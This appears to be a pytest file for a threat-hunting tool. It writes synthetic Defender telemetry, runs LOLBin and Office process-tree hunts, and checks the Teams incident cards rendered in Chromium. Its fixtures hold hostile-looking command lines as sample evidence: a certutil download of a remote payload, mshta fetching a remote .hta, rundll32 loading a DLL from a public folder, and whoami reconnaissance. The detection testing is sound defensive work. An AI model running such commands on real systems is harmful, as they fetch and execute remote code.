"""Incident cards for hunts that are not our PowerShell pack (issue 20's two cases), end to end:
a detection engineer's own ``DeviceNetworkEvents`` hunt with ``teams.columns`` and a community
style ``summarize`` process-tree hunt with ``entityMappings``, run by the local engine over
telemetry written here, recorded in the ledger and correlated on Azurite, posted to the local
webhook, then rendered by Microsoft's Adaptive Cards renderer in Chromium: the text asserted is
what an analyst reads.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from devtools.webhook import WebhookReceiver
from shared.cards import MAX_PAYLOAD_BYTES, card_of, payload_size
from shared.hunt import Hunt, load_hunts
from shared.incidents import IncidentStore, process_run
from shared.ledger import Ledger
from shared.notify.teams import TeamsNotifier
from shared.preview import Chromium, rendered_text
from shared.sources.local import LocalSource
from shared.storage import Storage
from shared.window import Window

DAY = Window(datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 3, tzinfo=UTC))
FIN = ("ws-fin-014.corp.contoso.com", "4d645fa6d13c513a42f8eda197b1165f0971b7c4")
OWN_HUNT = """\
id: 7a1c0c5e-5b1e-4f0e-9a51-1d2f3e4a5b60
name: LOLBin connects to a public address
severity: High
source: defender
relevantTechniques: [T1218.011, T1218.005]
query: |
  DeviceNetworkEvents
  | where InitiatingProcessFileName in~ ("rundll32.exe", "mshta.exe")
  | where RemoteIPType == "Public"
teams:
  columns: [InitiatingProcessCommandLine, RemoteUrl, InitiatingProcessSHA256]
"""
TREE_HUNT = """\
id: 7a1c0c5e-5b1e-4f0e-9a51-1d2f3e4a5b61
name: Anomalous process trees
severity: Medium
source: defender
relevantTechniques: [T1059]
query: |
  DeviceProcessEvents
  | where InitiatingProcessFileName in~ ("winword.exe", "excel.exe")
  | summarize ProcessTree = make_set(strcat(InitiatingProcessFileName, " > ", FileName, " : ",
      ProcessCommandLine)), Processes = count(), Timestamp = max(Timestamp)
      by DeviceId, DeviceName, AccountName, InitiatingProcessFileName
entityMappings:
  - entityType: Host
    fieldMappings:
      - identifier: HostName
        columnName: DeviceName
  - entityType: Account
    fieldMappings:
      - identifier: Name
        columnName: AccountName
"""


def network(minute: int, process: str, command: str, pid: int, ip: str, port: int,
            url: str) -> dict[str, Any]:
    return {"Timestamp": f"2026-03-02T10:{minute:02d}:00Z", "DeviceId": FIN[1],
            "DeviceName": FIN[0], "ActionType": "ConnectionSuccess", "RemoteIP": ip,
            "RemotePort": port, "RemoteUrl": url, "RemoteIPType": "Public", "Protocol": "Tcp",
            "LocalIP": "10.1.2.3", "LocalPort": 50000 + minute,
            "InitiatingProcessFileName": process, "InitiatingProcessCommandLine": command,
            "InitiatingProcessId": pid,
            "InitiatingProcessCreationTime": f"2026-03-02T10:{minute - 1:02d}:30Z",
            "InitiatingProcessParentFileName": "WINWORD.EXE", "InitiatingProcessParentId": 4100,
            "InitiatingProcessParentCreationTime": "2026-03-02T09:58:00Z",
            "InitiatingProcessAccountDomain": "contoso",
            "InitiatingProcessAccountName": "alice.moreau",
            "InitiatingProcessSHA256": f"{pid:064x}", "ReportId": 7000 + minute}


def process(minute: int, parent: str, name: str, command: str, pid: int,
            account: str = "alice.moreau") -> dict[str, Any]:
    return {"Timestamp": f"2026-03-02T11:{minute:02d}:00Z", "DeviceId": FIN[1],
            "DeviceName": FIN[0], "ActionType": "ProcessCreated", "FileName": name,
            "ProcessCommandLine": command, "ProcessId": pid,
            "ProcessCreationTime": f"2026-03-02T11:{minute:02d}:00Z",
            "InitiatingProcessFileName": parent, "InitiatingProcessId": 4100,
            "InitiatingProcessCreationTime": "2026-03-02T09:58:00Z",
            "AccountDomain": "contoso", "AccountName": account, "ReportId": 8000 + minute}


NETWORK = [network(5, "rundll32.exe", r"rundll32.exe C:\Users\Public\update.dll,StartW", 5120,
                   "203.0.113.66", 443, "cdn-update.example"),
           network(9, "mshta.exe", "mshta.exe https://198.51.100.9/a.hta", 5244, "198.51.100.9",
                   80, "")]
PROCESSES = [process(1, "WINWORD.EXE", "cmd.exe", "cmd.exe /c whoami /all", 6100),
             process(2, "WINWORD.EXE", "powershell.exe", "powershell -nop -c Get-Process", 6200),
             process(3, "EXCEL.EXE", "certutil.exe",
                     r"certutil -urlcache -f http://198.51.100.4/p.bin C:\p.bin", 6300)]


@pytest.fixture
def hook() -> Iterator[WebhookReceiver]:
    with WebhookReceiver() as receiver:
        yield receiver


def post_cards(tmp_path: Path, connection_string: str, hook: WebhookReceiver) -> list[Any]:
    folder = tmp_path / "hunts"
    folder.mkdir()
    (folder / "lolbin.yaml").write_text(OWN_HUNT, encoding="utf-8")
    (folder / "trees.yaml").write_text(TREE_HUNT, encoding="utf-8")
    loaded = load_hunts(folder)
    assert not loaded.errors, loaded.errors
    hunts: list[Hunt] = loaded.hunts
    files = {}
    for table, rows in (("DeviceNetworkEvents", NETWORK), ("DeviceProcessEvents", PROCESSES)):
        files[table] = tmp_path / f"{table}.jsonl"
        files[table].write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    source = LocalSource(files)
    suffix = abs(hash(str(tmp_path))) % 10**8  # Azurite is shared by the session
    storage = Storage.from_connection_string(connection_string)
    ledger = Ledger(storage, findings_table=f"anyF{suffix}", pending_table=f"anyP{suffix}",
                    checkpoints_table=f"anyC{suffix}")
    now = DAY.end
    findings = {h.id: ledger.record(h, source.run(h, DAY).rows, now).new for h in hunts}
    assert [len(findings[h.id]) for h in hunts] == [2, 2]
    store = IncidentStore(storage, table=f"anyI{suffix}")
    with closing(TeamsNotifier(hook.url, min_interval_seconds=0)) as webhook:
        outcome = process_run(findings, hunts, store, webhook, now)
    assert outcome.posted >= 1
    return list(hook.payloads)


@pytest.mark.browser
def test_own_network_hunt_and_summarize_tree_hunt_show_every_rows_evidence(
        tmp_path: Path, storage_connection_string: str, hook: WebhookReceiver) -> None:
    payloads = post_cards(tmp_path, storage_connection_string, hook)
    browser = Chromium.find()
    text = "\n".join(rendered_text(p, tmp_path, browser) for p in payloads)

    # The own DeviceNetworkEvents hunt: what ran, under what, as whom, to where, per row.
    assert r"Command line: rundll32.exe C:\Users\Public\update.dll,StartW" in text
    assert "Command line: mshta.exe hxxps[:]//198[.]51[.]100[.]9/a.hta" in text
    assert text.count("Parent: WINWORD.EXE (pid 4100)") >= 2
    assert "Process: rundll32.exe (pid 5120)" in text
    assert "Endpoint: 203.0.113.66:443 (cdn-update.example)" in text
    assert "Endpoint: 198.51.100.9:80" in text
    assert "InitiatingProcessSHA256: " + f"{5120:064x}" in text  # teams.columns: always shown
    assert text.count("Account: contoso\\alice.moreau") >= 2
    # Two processes that share a parent (same id and creation time) are two branches of it,
    # never drawn as one connecting to the other.
    assert "Chain: WINWORD.EXE → rundll32.exe → 203.0.113.66:443 (cdn-update.example)" in text
    assert "\nWINWORD.EXE → mshta.exe → 198.51.100.9:80\n" in text
    assert "203.0.113.66:443 → 198.51.100.9" not in text
    assert "rundll32.exe [203.0.113.66:443] → mshta.exe" not in text
    # The summarize process-tree hunt: its by-keys, its aggregates, its tree as a list.
    assert "ProcessTree (2):" in text
    assert "• WINWORD.EXE > cmd.exe : cmd.exe /c whoami /all" in text
    assert "• WINWORD.EXE > powershell.exe : powershell -nop -c Get-Process" in text
    assert r"• EXCEL.EXE > certutil.exe : certutil -urlcache -f hxxp[:]//198[.]51[.]100[.]4/p.bin" \
        in text
    assert "Processes: 2" in text
    assert "Parent: EXCEL.EXE" in text
    assert "Account: alice.moreau" in text
    for payload in payloads:
        assert payload_size(payload) <= MAX_PAYLOAD_BYTES
        assert card_of(payload)["version"] == "1.4"


def test_cards_of_the_two_hunts_without_a_browser(tmp_path: Path, storage_connection_string: str,
                                                  hook: WebhookReceiver) -> None:
    """The same cards as JSON (the fast path of the browser test above)."""
    payloads = post_cards(tmp_path, storage_connection_string, hook)
    dump = json.dumps([card_of(p) for p in payloads], ensure_ascii=False)

    assert r"rundll32.exe C:\\Users\\Public\\update.dll,StartW" in dump
    assert "198.51.100.9:80" in dump
    assert "certutil -urlcache" in dump
    assert "198.51.100.9:80 → " not in dump
